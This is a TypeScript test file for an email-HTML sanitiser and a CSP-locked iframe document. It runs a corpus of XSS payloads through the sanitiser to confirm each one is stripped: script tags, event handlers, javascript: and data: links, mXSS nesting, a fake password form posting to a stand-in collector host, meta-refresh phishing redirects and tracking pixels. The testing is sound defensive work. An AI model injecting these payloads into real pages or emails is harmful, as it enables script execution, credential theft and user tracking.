// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { cleanEmailHtml, emailFrameCsp, emailFrameDocument, purifyEmailHtml, withoutInlineCode } from './email-frame-document';

/** Ways an email tries to run code or load something, from the usual XSS cheat sheets. */
const CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://track.example/pixel.gif" width=1 height=1>',
  '<img srcset="https://track.example/a.png 1x, https://track.example/b.png 2x">',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)><script>alert(2)</script></svg>',
  '<svg><image href="https://track.example/svg.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://collect.example/"><input name="password"><button>Sign in</button></form>',
  '<button formaction="https://collect.example/">go</button>',
  '<meta http-equiv="refresh" content="0;url=https://phish.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url("https://evil.example/x.css"); body { background: url(https://track.example/bg.png) }</style>',
  '<div style="background-image: url(https://track.example/div.png)">styled</div>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<table background="https://track.example/table.png"><tr><td background="https://track.example/td.png">cell</td></tr></table>',
  '<video poster="https://track.example/poster.png"><source src="https://evil.example/v.mp4"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<input type="image" src="https://track.example/input.png">',
  '<a href="https://ok.example/" ping="https://track.example/ping">link</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div data-x="1" onclick="alert(1)" onmouseover="alert(1)">hover</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<img src="/relative.png">',
];

const REMOTE = /https?:\/\/(?!ok\.example)/i;

function parse(html: string): Document {
  return new DOMParser().parseFromString(`<!doctype html><body>${html}</body>`, 'text/html');
}

function assertInert(doc: Document, source: string): void {
  const forbidden = 'script, style, link, meta, base, iframe, frame, object, embed, form, input, button, textarea, select, svg, math, template, audio, video, source';
  expect(doc.body.querySelectorAll(forbidden).length, source).toBe(0);
  for (const element of doc.body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name.startsWith('on'), `${source}: ${name}`).toBe(false);
      expect(['style', 'srcset', 'background', 'poster', 'ping', 'action', 'formaction', 'srcdoc']).not.toContain(name);
      expect(value, `${source}: ${name}`).not.toMatch(/^\s*(javascript|vbscript|data:text)/i);
      if (name === 'src') expect(value, `${source}: src`).not.toMatch(REMOTE);
    }
  }
}

describe('the email frame’s document, against an XSS corpus', () => {
  it.each(CORPUS)('cleans %s: nothing that runs, nothing that loads', (source) => {
    const { html } = cleanEmailHtml(source, false);
    assertInert(parse(html), source);
    expect(html).not.toMatch(/https?:\/\/(evil|track|collect|phish)\.example/);
  });

  it('holds remote images back and counts them; shown, only absolute http(s) images come back', () => {
    const html = '<p>Hi</p><img src="https://cdn.acme.example/logo.png" alt="Acme"><img src="/relative.png"><img src="data:image/png;base64,iVBORw0KGgo=">';
    const blocked = cleanEmailHtml(html, false);
    expect(blocked.blockedImages).toBe(1);
    const blockedDoc = parse(blocked.html);
    expect([...blockedDoc.images].map((i) => i.getAttribute('src'))).toEqual([null, null, 'data:image/png;base64,iVBORw0KGgo=']);
    expect(blockedDoc.images[0]!.alt).toBe('Acme');
    const shown = cleanEmailHtml(html, true);
    expect(shown.blockedImages).toBe(0);
    expect([...parse(shown.html).images].map((i) => i.getAttribute('src'))).toEqual(['https://cdn.acme.example/logo.png', null, 'data:image/png;base64,iVBORw0KGgo=']);
  });

  it('keeps the content: text, links (opening apart), tables, emphasis', () => {
    const { html } = cleanEmailHtml('<p>Hello <b>Dana</b>, see <a href="https://ok.example/x">the quote</a>.</p><table><tr><td>1</td></tr></table>', false);
    const doc = parse(html);
    expect(doc.body.textContent).toBe('Hello Dana, see the quote.1');
    const link = doc.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://ok.example/x');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(doc.querySelector('b, td')).not.toBeNull();
  });

  it('wraps it in a document whose CSP allows nothing, or images only once asked', () => {
    expect(emailFrameCsp(false)).toBe("default-src 'none'; img-src data:");
    expect(emailFrameCsp(true)).toBe("default-src 'none'; img-src data: https:");
    const { srcdoc } = emailFrameDocument('<p>x</p>', false);
    const doc = new DOMParser().parseFromString(srcdoc, 'text/html');
    const csp = doc.head.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(csp?.getAttribute('content')).toBe("default-src 'none'; img-src data:");
    expect(doc.head.querySelector('meta[name="referrer"]')?.getAttribute('content')).toBe('no-referrer');
    expect(doc.body.innerHTML).toBe('<p>x</p>');
  });

  it('cannot be broken out of: the cleaned body closes its own elements before the policy', () => {
    const { srcdoc } = emailFrameDocument('</body></html><meta http-equiv="refresh" content="0;url=https://phish.example/"><script>alert(1)</script>', false);
    const doc = new DOMParser().parseFromString(srcdoc, 'text/html');
    expect(doc.querySelectorAll('meta[http-equiv="refresh"], script').length).toBe(0);
  });

  it('takes inline styles and handlers out before parsing (the app’s CSP would report each one)', () => {
    expect(withoutInlineCode('<div style="color:red" class="a"><img src="x" onerror="alert(1)"/><p STYLE=\'x\' onClick=go()>t</p></div><style>p{}</style><script>x()</script>')).toBe(
      '<div  class="a"><img src="x" /><p  >t</p></div>',
    );
  });

  it.each(CORPUS)('without the pre-pass, DOMPurify alone still cleans %s', (source) => {
    const { html } = purifyEmailHtml(source, false);
    assertInert(parse(html), source);
    expect(html).not.toMatch(/https?:\/\/(evil|track|collect|phish)\.example/);
  });
});
